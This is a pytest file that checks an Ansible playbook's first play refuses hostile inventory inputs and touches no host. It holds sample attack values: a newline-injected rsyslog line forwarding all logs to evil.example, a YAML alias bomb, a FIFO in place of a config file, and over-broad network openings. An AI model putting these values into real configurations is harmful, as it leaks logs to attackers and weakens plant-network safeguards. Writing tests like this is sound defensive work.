"""One hostile input of each class, given to site.yml itself: the run stops in its first play
(cityward check) naming where the problem is, and no host is contacted. The example city's hosts
do not exist: had the play gone on, each would show in the recap (issue 23)."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[2]
EXAMPLE = ROOT / "inventories" / "example-city"
pytestmark = pytest.mark.control("CW-RES-04")


def _set(name, value):
    def change(city: Path) -> None:
        path = city / "host_vars" / "historian-01.yml"
        data = yaml.safe_load(path.read_text())
        data[name] = value
        path.write_text(yaml.safe_dump(data, sort_keys=False))
    return change


def _fifo(city: Path) -> None:
    path = city / "host_vars" / "historian-01.yml"
    path.unlink()
    os.mkfifo(path)


def _alias_bomb(city: Path) -> None:
    lines = ['l0: &l0 ["x", "x", "x", "x", "x", "x", "x", "x", "x", "x"]']
    lines += [f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 10)}]" for i in range(1, 9)]
    (city / "group_vars" / "all" / "bomb.yml").write_text("\n".join(lines) + "\n")


def _it_reads_modbus(city: Path) -> None:
    path = city.parent / "zones.yml"
    data = yaml.safe_load(path.read_text())
    data["conduits"].append({"from": "enterprise", "to": "field", "protocol": "tcp", "port": 1502,
                             "service": "modbus-tcp", "purpose": "Dashboard reads the PLCs"})
    path.write_text(yaml.safe_dump(data, sort_keys=False))


CASES = [
    pytest.param(_set("logging_siem_host", "siem.city.example\n*.* @@evil.example:514"),
                 "host historian-01, field logging_siem_host", id="newline-into-rsyslog"),
    pytest.param(_set("cityward_automation_sources", ["0.0.0.0/0"]),
                 "host historian-01, field cityward_automation_sources[0]", id="automation-from-anywhere"),
    pytest.param(_fifo, "historian-01.yml: refused: a FIFO, not a regular file", id="fifo-in-host-vars"),
    pytest.param(_alias_bomb, "alias bomb", id="alias-bomb-in-group-vars"),
    pytest.param(_it_reads_modbus, "(rule ot-protocol)", id="it-zone-opens-modbus"),
]


@pytest.mark.parametrize(("mutate", "named"), CASES)
def test_site_yml_refuses_in_its_first_play_and_contacts_no_host(tmp_path, mutate, named):
    city = tmp_path / "city"
    shutil.copytree(EXAMPLE, city)
    shutil.copy(ROOT / "policies" / "zones.yml", tmp_path / "zones.yml")
    settings = city / "group_vars" / "all" / "city.yml"
    data = yaml.safe_load(settings.read_text())
    data["cityward_zones_file"] = "../zones.yml"
    settings.write_text(yaml.safe_dump(data, sort_keys=False))
    mutate(city)
    result = subprocess.run([str(Path(sys.executable).parent / "ansible-playbook"), "-i", str(city),
                             "playbooks/site.yml"], capture_output=True, text=True, cwd=ROOT, check=False,
                            timeout=180)
    out = result.stdout + result.stderr
    assert result.returncode != 0
    assert named in out, out[-3000:]
    assert "nothing was changed on any host" in out, out[-3000:]
    assert "Traceback" not in out
    recap = out.split("PLAY RECAP", 1)[1]
    assert re.findall(r"(?m)^(\S+)\s+: ok=", recap) == ["localhost"]
